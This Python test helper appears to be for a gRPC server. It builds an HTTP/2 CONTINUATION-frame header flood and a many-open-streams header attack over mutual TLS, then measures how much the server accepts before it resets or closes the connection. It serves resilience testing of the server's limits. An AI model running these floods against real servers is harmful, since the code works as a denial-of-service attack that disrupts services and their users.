"""A raw HTTP/2 header flood over TLS: a HEADERS frame without END_HEADERS,
then CONTINUATION frames carrying one ever-growing header value, never
ending the header block. What a hostile client with any CA-signed
certificate can send before any RPC handler runs."""

from __future__ import annotations

import socket
import ssl
import time
from pathlib import Path

import h2.config
import h2.connection
import hpack
from hyperframe.frame import ContinuationFrame, HeadersFrame

FRAME = 16_384  # the default SETTINGS_MAX_FRAME_SIZE


def _context(ca: Path, cert: Path, key: Path) -> ssl.SSLContext:
    context = ssl.create_default_context(cafile=str(ca))
    context.check_hostname = False  # the address is 127.0.0.1; the chain is still verified
    context.load_cert_chain(str(cert), str(key))
    context.set_alpn_protocols(["h2"])
    return context


def _request_headers(address: tuple[str, int], path: str) -> list[tuple[str, str]]:
    return [
        (":method", "POST"),
        (":scheme", "https"),
        (":path", path),
        (":authority", f"{address[0]}:{address[1]}"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ]


def _value_length(length: int) -> bytes:
    """An HPACK integer with a 7-bit prefix (RFC 7541 5.1), not Huffman-coded."""
    if length < 127:
        return bytes([length])
    out, length = bytearray([127]), length - 127
    while length >= 128:
        out.append(length % 128 + 128)
        length //= 128
    out.append(length)
    return bytes(out)


def _small_headers(size: int) -> bytes:
    """Whole short literal headers (new name, not indexed), up to ``size`` bytes."""
    one = b"\x00" + _value_length(3) + b"x-f" + _value_length(40) + b"v" * 40
    return one * (size // len(one))


def flood(
    address: tuple[str, int],
    ca: Path,
    cert: Path,
    key: Path,
    path: str,
    total_bytes: int,
    *,
    many: bool = False,
) -> int:
    """Send about ``total_bytes`` of one never-ending header block; the
    number of bytes the server took before it closed the connection."""
    context = _context(ca, cert, key)
    sent = 0
    with socket.create_connection(address, timeout=10) as raw, context.wrap_socket(raw) as tls:
        connection = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        connection.initiate_connection()
        tls.sendall(connection.data_to_send())
        block = hpack.Encoder().encode(_request_headers(address, path))
        if not many:
            # A literal header, new name, without indexing, whose value is all the rest.
            block += b"\x00" + _value_length(7) + b"x-flood" + _value_length(total_bytes)
        try:
            tls.sendall(HeadersFrame(1, data=block).serialize())  # no END_HEADERS flag
            sent = len(block)
            payload = _small_headers(FRAME) if many else b"a" * FRAME
            while sent < total_bytes:
                tls.sendall(ContinuationFrame(1, data=payload).serialize())
                sent += len(payload)
        except OSError:
            pass  # the server gave up on us: what we wanted to know
    return sent


def _frames(data: bytes) -> tuple[list[tuple[int, int]], bytes]:
    """(type, stream id) of each whole frame in ``data``, and the rest."""
    found = []
    while len(data) >= 9:
        length = int.from_bytes(data[:3], "big")
        if len(data) < 9 + length:
            break
        found.append((data[3], int.from_bytes(data[5:9], "big") & 0x7FFF_FFFF))
        data = data[9 + length :]
    return found, data


def open_streams(
    address: tuple[str, int],
    ca: Path,
    cert: Path,
    key: Path,
    path: str,
    streams: int,
    header_bytes: int,
    hold_s: float,
) -> int:
    """Open ``streams`` calls on one connection, each with a complete header
    list of about ``header_bytes`` (HPACK-indexed after the first, as a
    client's encoder does) and no request message, so each stays open; keep
    the connection ``hold_s`` seconds. Returns how many streams the server
    reset."""
    context = _context(ca, cert, key)
    encoder = hpack.Encoder()
    padding = [(f"x-pad-{i}", "v" * 100) for i in range(header_bytes // 110)]
    reset: set[int] = set()
    with socket.create_connection(address, timeout=10) as raw, context.wrap_socket(raw) as tls:
        connection = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        connection.initiate_connection()
        tls.sendall(connection.data_to_send())
        for stream_id in range(1, 2 * streams, 2):
            block = encoder.encode([*_request_headers(address, path), *padding])
            frame = HeadersFrame(stream_id, data=block)
            frame.flags.add("END_HEADERS")
            tls.sendall(frame.serialize())
        tls.settimeout(0.2)
        rest, deadline = b"", time.monotonic() + hold_s
        while time.monotonic() < deadline:
            try:
                data = tls.recv(65536)
            except (TimeoutError, ssl.SSLError):
                continue
            if not data:
                break
            frames, rest = _frames(rest + data)
            reset.update(stream for kind, stream in frames if kind == 0x3)  # RST_STREAM
    return len(reset)
